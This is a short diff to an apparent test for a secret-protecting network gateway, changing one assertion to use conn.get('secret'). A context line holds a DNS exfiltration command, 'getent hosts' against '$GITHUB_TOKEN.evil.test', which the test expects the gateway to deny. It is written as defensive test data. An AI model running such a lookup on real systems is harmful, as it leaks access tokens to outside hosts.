@@ -201,7 +201,7 @@ def test_the_placeholder_in_a_connect_host_or_a_dns_name_is_recorded_as_misuse(g
                   'getent hosts "$GITHUB_TOKEN.evil.test"; true'], extra=extra, unnamed={"GW_TEST_SECRET": VALUE})
     assert r.returncode == 0, r.stderr
     (conn,) = r.records(event="connect")
-    assert (conn["decision"], conn["secret"], conn["status"]) == ("denied", "github", 403), conn
+    assert (conn["decision"], conn.get("secret"), conn["status"]) == ("denied", "github", 403), conn
     assert conn["reason"] == "secret_misuse: the placeholder of secret github in the CONNECT host", conn
     dns = [x for x in r.records(event="dns") if x.get("secret")]
     assert dns and dns[0]["reason"] == "secret_misuse: the placeholder of secret github in the DNS name", r.records(event="dns")
